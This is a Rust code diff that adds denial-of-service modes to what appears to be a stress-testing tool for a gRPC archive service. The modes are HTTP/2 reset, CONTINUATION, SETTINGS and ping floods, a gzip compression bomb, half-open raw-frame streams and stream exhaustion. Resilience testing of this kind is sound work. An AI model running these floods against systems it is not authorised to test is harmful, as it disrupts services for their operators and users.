@@ -2,6 +2,7 @@
 
 use std::{
     future::{Future, pending},
+    net::SocketAddr,
     time::Duration,
 };
 
@@ -13,7 +14,7 @@ use pb::{
     event_service_client::EventServiceClient,
 };
 use tokio::{
-    io::{copy, sink},
+    io::{AsyncWriteExt, copy, sink},
     net::TcpStream,
     task::JoinSet,
     time::{MissedTickBehavior, interval, sleep, timeout},
@@ -21,18 +22,26 @@ use tokio::{
 use tokio_stream::wrappers::IntervalStream;
 use tonic::{
     Request,
+    codec::CompressionEncoding::Gzip,
     transport::{Channel, Endpoint},
 };
+use tonic_health::pb::{HealthCheckRequest, health_client::HealthClient};
 
 use crate::{
-    attack::{Attack, BODIES, DEADLINES, FOLLOWERS, READERS, SILENT, STREAMED, TAILS, UNREAD},
+    attack::{
+        Attack, BODIES, BOMBS, DEADLINES, FLOODS, FOLLOWERS, HALF_OPEN, READERS, SILENT, STREAMED,
+        STREAMS, TAILS, UNREAD, WITHDRAWN,
+    },
+    frames::{END_HEADERS, END_STREAM, Flood, PREFACE, frame, head, kind},
     raw::{self, Begun},
 };
 
 /// The deadline of calls that give up.
 const SHORT: Duration = Duration::from_millis(30);
 /// Streams on one connection: fewer than a server allows.
-const STREAMS: usize = 100;
+const OF_A_CONNECTION: usize = 100;
+/// And as many as it allows, nearly.
+const MANY: usize = 1_000;
 /// How long an attack that was cut off waits until it begins anew.
 const PAUSE: Duration = Duration::from_millis(100);
 
@@ -148,7 +157,83 @@ pub(crate) async fn attack(arguments: Arguments) -> Result<()> {
             )
             .await
         }
+        Attack::Streams => {
+            let mut held = JoinSet::new();
+            for _ in 0..STREAMS / MANY {
+                let health = HealthClient::new(connect(&address).await?);
+                for _ in 0..MANY {
+                    let mut health = health.clone();
+                    held.spawn(async move {
+                        if let Ok(told) = health.watch(HealthCheckRequest::default()).await {
+                            let mut told = told.into_inner();
+                            while let Ok(Some(_)) = told.message().await {}
+                        }
+                    });
+                }
+            }
+            pending().await
+        }
+        Attack::Withdrawn => {
+            let mut clients = Vec::new();
+            for _ in 0..FLOODS {
+                clients.push(ArchiveServiceClient::new(connect(&address).await?));
+            }
+            at_rate(WITHDRAWN, async |number| {
+                let mut client = clients[number as usize % clients.len()].clone();
+                let numero_commande = format!("CMD-UNKNOWN-{number}");
+                let request = pb::ArchiveOrderRequest { numero_commande };
+                let patience = Duration::from_micros(number % 20 * 100);
+                move || async move { drop(timeout(patience, client.archive_order(request)).await) }
+            })
+            .await
+        }
+        Attack::Resets => flood(&address, Flood::Resets).await,
+        Attack::Continuations => flood(&address, Flood::Continuations).await,
+        Attack::Settings => flood(&address, Flood::Settings).await,
+        Attack::Pings => flood(&address, Flood::Pings).await,
+        Attack::Heads => flood(&address, Flood::Heads).await,
+        Attack::Garbage => flood(&address, Flood::Garbage).await,
+        Attack::Bombs => {
+            let client = ArchiveServiceClient::new(connect(&address).await?).send_compressed(Gzip);
+            let numero_commande = "x".repeat(48 << 20);
+            at_rate(BOMBS, async |_| {
+                let mut client = client.clone();
+                let numero_commande = numero_commande.clone();
+                let request = pb::ArchiveOrderRequest { numero_commande };
+                move || async move { drop(client.archive_order(request).await) }
+            })
+            .await
+        }
+        Attack::HalfOpen => {
+            let host = address.trim_start_matches("http://");
+            let call = head("/grpc.health.v1.Health/Watch");
+            let call = frame(kind::HEADERS, END_HEADERS, 1, &call);
+            let asked = frame(kind::DATA, END_STREAM, 1, &[0; 5]);
+            let said = [PREFACE, &call, &asked].concat();
+            let mut gone = Vec::new();
+            for _ in 0..HALF_OPEN {
+                let mut peer = TcpStream::connect(host).await?;
+                peer.write_all(&said).await?;
+                gone.push(peer);
+            }
+            pending().await
+        }
     }
+}
+
+/// Floods by several connections; one that is cut off comes back.
+async fn flood(address: &str, flood: Flood) -> Result<()> {
+    let address: SocketAddr = address.trim_start_matches("http://").parse()?;
+    let mut flooding = JoinSet::new();
+    for _ in 0..FLOODS {
+        flooding.spawn(async move {
+            loop {
+                flood.until_cut(address, u32::MAX / 256, false).await;
+                sleep(Duration::from_millis(1)).await;
+            }
+        });
+    }
+    pending().await
 }
 
 async fn connect(address: &str) -> Result<Channel> {
@@ -181,7 +266,7 @@ async fn hold(
     let mut held = JoinSet::new();
     let mut channel = connect(address).await?;
     for number in 1..=calls {
-        if number % STREAMS == 0 {
+        if number % OF_A_CONNECTION == 0 {
             channel = connect(address).await?;
         }
         let (mut channel, address) = (channel.clone(), address.to_owned());
